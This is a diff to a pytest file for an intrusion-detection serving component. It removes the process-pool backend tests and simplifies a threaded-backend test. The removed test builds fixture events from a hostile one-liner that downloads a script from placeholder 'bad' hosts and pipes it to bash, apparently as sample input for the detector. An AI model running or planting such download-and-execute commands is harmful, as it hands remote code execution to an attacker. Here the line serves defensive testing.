@@ -15,11 +15,11 @@ import pytest
 from repro.serving import (
     CommandEvent,
     DetectionServer,
-    ProcessPoolBackend,
     ThreadedBackend,
     serve_batches,
 )
 from repro.serving.config import SessionConfig
+from tests.serving.conftest import THREADED_WORKERS
 
 
 def run(coro):
@@ -131,9 +131,9 @@ class TestColumnarParity:
         assert [r.host for r in results] == [e.host for e in events]
         assert [r.raw_line for r in results] == [e.line for e in events]
 
-    def test_threaded_backend_scores_columnar_row_blocks(self, demo_service, backend_workers):
+    def test_threaded_backend_scores_columnar_row_blocks(self, demo_service):
         events = self.demo_events()
-        backend = ThreadedBackend(demo_service, workers=backend_workers, min_shard=4)
+        backend = ThreadedBackend(demo_service, workers=THREADED_WORKERS, min_shard=4)
         server = DetectionServer(demo_service, backend=backend)
         threaded = run(_batched(server, events))
         assert server.metrics.snapshot()["columnar_batches"] > 0
@@ -142,51 +142,6 @@ class TestColumnarParity:
             # row-block BLAS grouping differs from whole-batch: ulp tolerance
             assert abs(a.score - b.score) < 1e-9
             assert a.is_intrusion == b.is_intrusion
-
-
-class TestProcessBackendFrames:
-    """Columnar batches cross the process boundary as one published frame."""
-
-    @pytest.mark.parametrize("transport", ["shm", "pickle"])
-    def test_frame_transport_matches_inline_bitwise(
-        self, demo_service, demo_bundle, backend_workers, transport
-    ):
-        events = [
-            CommandEvent(
-                line=f"wget http://bad{i % 6}.io/p.sh -O- | bash",
-                host=f"h{i % 3}",
-                timestamp=float(i),
-            )
-            for i in range(40)
-        ]
-        backend = ProcessPoolBackend(
-            demo_bundle, workers=backend_workers, min_shard=4, transport=transport
-        )
-        assert backend.supports_columnar
-        # the workers score on the tape, which only float64 reproduces
-        server = DetectionServer(demo_service, backend=backend, precision="float64")
-        process = run(_batched(server, events))
-        assert server.metrics.snapshot()["columnar_batches"] > 0
-        inline = run(_batched(DetectionServer(demo_service, precision="float64"), events))
-        for a, b in zip(process, inline):
-            # min_shard=4 keeps this batch on a single worker's row range,
-            # so the frame path reproduces the inline floats exactly
-            assert abs(a.score - b.score) < 1e-9
-            assert a.is_intrusion == b.is_intrusion
-
-    def test_loader_backend_requires_columnar_opt_in(self, stub_service):
-        backend = ProcessPoolBackend(loader=lambda: None, workers=1)
-        assert not backend.supports_columnar
-
-        async def scenario():
-            with pytest.raises(NotImplementedError, match="columnar"):
-                await backend.score_batch(None)
-
-        run(scenario())
-
-    def test_unknown_transport_rejected(self):
-        with pytest.raises(ValueError, match="transport"):
-            ProcessPoolBackend(loader=lambda: None, transport="smoke-signals")
 
 
 class TestSequenceStageBatched:
